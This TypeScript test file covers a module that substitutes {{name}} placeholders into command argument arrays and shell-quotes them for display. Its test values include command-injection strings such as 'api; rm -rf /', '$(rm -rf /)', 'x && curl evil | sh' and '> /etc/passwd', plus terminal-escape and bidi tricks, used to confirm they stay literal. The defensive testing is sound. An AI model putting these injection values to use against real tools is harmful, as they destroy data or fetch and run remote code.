import { describe, expect, it } from 'vitest';
import { describeArgv, optionLikeValues, PARAM_NAME, placeholdersIn, resolveArgv } from '../../src/domain/placeholders.js';

describe('placeholdersIn', () => {
  it.each<[string, string[], string[]]>([
    ['none', ['kubectl', 'get', 'pods'], []],
    ['one', ['kubectl', 'rollout', 'undo', 'deploy/{{service}}'], ['service']],
    ['spaces inside the braces', ['echo', '{{ service }}', '{{\tns\t}}'], ['service', 'ns']],
    ['in order of first use, each once', ['x', '{{b}}-{{a}}', '{{b}}', '--ns={{ a }}'], ['b', 'a']],
    ['several in one element', ['psql', 'postgres://{{user}}@{{host}}:5432/{{db}}'], ['user', 'host', 'db']],
    ['names with _ and -', ['x', '{{_x}}', '{{db-name}}', '{{v2}}'], ['_x', 'db-name', 'v2']],
    ['Go templates are not placeholders', ['docker', 'ps', '--format', '{{.Names}} {{ json .Config }}'], []],
    ['not names: digits first, dots, spaces, empty', ['x', '{{1x}}', '{{a.b}}', '{{a b}}', '{{}}', '{{ }}'], []],
    ['single braces', ['x', '{name}', '{ {name} }'], []],
    ['escaped \\{{ is not a placeholder', ['kubectl', '-o', 'go-template={{range .items}}\\{{end}}'], []],
    ['escape then a real one', ['x', '\\{{a}}{{b}}'], ['b']],
  ])('%s', (_name, argv, names) => {
    expect(placeholdersIn(argv)).toEqual(names);
  });
});

describe('resolveArgv', () => {
  it('substitutes inside one element', () => {
    expect(resolveArgv(['kubectl', '-n', '{{ns}}', 'rollout', 'undo', 'deploy/{{ service }}'], { ns: 'prod', service: 'api' })).toEqual({
      ok: true,
      argv: ['kubectl', '-n', 'prod', 'rollout', 'undo', 'deploy/api'],
    });
  });

  it.each<[string, string]>([
    ['semicolon', 'api; rm -rf /'],
    ['command substitution', '$(rm -rf /)'],
    ['backticks', '`reboot`'],
    ['and-and', 'x && curl evil | sh'],
    ['spaces', 'two words'],
    ['quotes', `it's "quoted"`],
    ['newline', 'line1\nline2'],
    ['glob', '*'],
    ['redirect', '> /etc/passwd'],
    ['another placeholder is not expanded again', '{{secret}}'],
    ['an escape in a value stays as typed', '\\{{x}}'],
  ])('a value with %s stays one literal argument', (_name, value) => {
    const r = resolveArgv(['echo', '{{v}}', 'pre-{{v}}-post'], { v: value, secret: 'NOPE' });
    expect(r).toEqual({ ok: true, argv: ['echo', value, `pre-${value}-post`] });
  });

  it.each<[string, string[], Record<string, string>, string[]]>([
    ['unknown placeholder', ['x', '{{a}}', '{{b}}'], { a: '1' }, ['b']],
    ['all missing, in order, once', ['x', '{{b}}{{a}}', '{{b}}'], {}, ['b', 'a']],
    ['empty value', ['rm', '-rf', '/srv/data/{{dir}}'], { dir: '' }, ['dir']],
    ['blank value', ['rm', '-rf', '/srv/data/{{dir}}'], { dir: '  \t' }, ['dir']],
    ['prototype keys do not count', ['x', '{{constructor}}', '{{toString}}'], {}, ['constructor', 'toString']],
  ])('missing: %s', (_name, argv, values, missing) => {
    expect(resolveArgv(argv, values)).toEqual({ ok: false, missing });
  });

  it('un-escapes \\{{ to a literal {{', () => {
    expect(resolveArgv(['kubectl', '-o', 'go-template={{range .items}}{{.metadata.name}}\\{{end}}', '{{ns}}'], { ns: 'prod' })).toEqual({
      ok: true,
      argv: ['kubectl', '-o', 'go-template={{range .items}}{{.metadata.name}}{{end}}', 'prod'],
    });
  });

  it('leaves the argv untouched when there is nothing to substitute', () => {
    expect(resolveArgv(['ls', '-la', "it's"], {})).toEqual({ ok: true, argv: ['ls', '-la', "it's"] });
  });

  it('ignores extra values', () => {
    expect(resolveArgv(['echo', '{{a}}'], { a: 'x', b: 'y' })).toEqual({ ok: true, argv: ['echo', 'x'] });
  });
});

describe('optionLikeValues', () => {
  it.each<[string, string[], Record<string, string>, string[]]>([
    ['a value read as an option', ['git', 'log', '{{ref}}'], { ref: '--output=/etc/passwd' }, ['ref']],
    ['not at the start of the element', ['git', 'log', 'origin/{{ref}}'], { ref: '-x' }, []],
    ['an ordinary value', ['git', 'log', '{{ref}}'], { ref: 'main' }, []],
    ['missing values are resolveArgv’s business', ['git', 'log', '{{ref}}'], {}, []],
  ])('%s', (_name, argv, values, names) => {
    expect(optionLikeValues(argv, values)).toEqual(names);
  });
});

describe('PARAM_NAME', () => {
  it.each<[string, boolean]>([
    ['service', true],
    ['db_name', true],
    ['db-name', true],
    ['_x', true],
    ['1x', false],
    ['a.b', false],
    ['a b', false],
    ['', false],
  ])('%j → %s', (name, ok) => {
    expect(PARAM_NAME.test(name)).toBe(ok);
  });
});

describe('describeArgv', () => {
  it.each<[string, string[], string]>([
    ['plain words stay bare', ['kubectl', '-n', 'prod', 'rollout', 'undo', 'deploy/api'], 'kubectl -n prod rollout undo deploy/api'],
    [
      'safe punctuation',
      ['curl', '-sS', 'https://example.com:8443/a_b/c.d?', 'x=1,y@z%+'],
      "curl -sS 'https://example.com:8443/a_b/c.d?' x=1,y@z%+",
    ],
    ['spaces are single-quoted', ['echo', 'two words'], "echo 'two words'"],
    [
      'shell syntax is quoted',
      ['echo', '; rm -rf /', '$(reboot)', 'a && b', '`x`', '*', '~'],
      "echo '; rm -rf /' '$(reboot)' 'a && b' '`x`' '*' '~'",
    ],
    ['a single quote', ['echo', "it's"], `echo 'it'\\''s'`],
    ['double quotes', ['echo', 'say "hi"'], `echo 'say "hi"'`],
    ['the empty string', ['echo', ''], "echo ''"],
    ['leading = (zsh expansion)', ['echo', '=ls'], "echo '=ls'"],
    ["a newline becomes $'…\\n…'", ['echo', 'a\nb'], "echo $'a\\nb'"],
    ['an ESC cannot reach the terminal', ['echo', '\u001b]0;pwned\u0007'], "echo $'\\e]0;pwned\\a'"],
    ["quotes and backslashes inside $'…'", ['echo', "it's\t\\"], "echo $'it\\'s\\t\\\\'"],
    ['a bidi override is made visible', ['rm', 'file\u202Etxt.sh'], "rm $'file\\u202etxt.sh'"],
    ['a C1 control', ['x', 'a\u009bb'], "x $'a\\u009bb'"],
    ['other unicode is kept', ['echo', 'café'], "echo 'café'"],
  ])('%s', (_name, argv, shown) => {
    expect(describeArgv(argv)).toBe(shown);
  });

  it('round-trips through a real POSIX shell for the single-quote forms', async () => {
    const { execFileSync } = await import('node:child_process');
    const argv = ['printf', '%s|', 'two words', "it's", '; rm -rf /', '$(echo no)', '', 'plain', 'say "hi"'];
    const out = execFileSync('sh', ['-c', describeArgv(argv)], { encoding: 'utf8' });
    expect(out).toBe(`${argv.slice(2).join('|')}|`);
  });

  it("round-trips through bash for the $'…' forms", async () => {
    const { execFileSync } = await import('node:child_process');
    const argv = ['printf', '%s|', 'a\nb', '\u001b[31mred', "it's\t\\", 'file\u202Etxt', 'café'];
    const out = execFileSync('bash', ['-c', describeArgv(argv)], { encoding: 'utf8', env: { ...process.env, LC_ALL: 'C.UTF-8' } });
    expect(out).toBe(`${argv.slice(2).join('|')}|`);
  });
});
